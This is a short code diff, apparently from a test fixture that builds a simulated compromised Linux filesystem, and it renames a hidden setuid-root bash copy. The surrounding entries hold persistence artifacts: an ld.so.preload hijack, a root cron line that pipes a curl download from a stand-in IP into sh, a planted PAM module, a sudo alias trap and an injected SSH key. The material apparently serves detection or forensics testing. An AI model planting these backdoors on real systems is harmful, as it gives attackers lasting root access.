@@ -49,7 +49,7 @@ files = [
     ("etc/ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libsysinfo.so\n", 0o644),
     ("etc/cron.d/sync", b"*/10 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n", 0o644),
     ("usr/lib/x86_64-linux-gnu/security/pam_audit2.so", b"\x7fELF planted", 0o644),
-    ("usr/local/lib/.cache/dbus-helper", found["usr/bin/bash"], 0o4755),
+    ("usr/local/lib/.cache/dbus-launchd", found["usr/bin/bash"], 0o4755),
     ("root/.bashrc", b"alias sudo='/usr/local/lib/.cache/sudo'\n", 0o644),
     ("var/www/.ssh/authorized_keys",
      b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q x\n", 0o600),
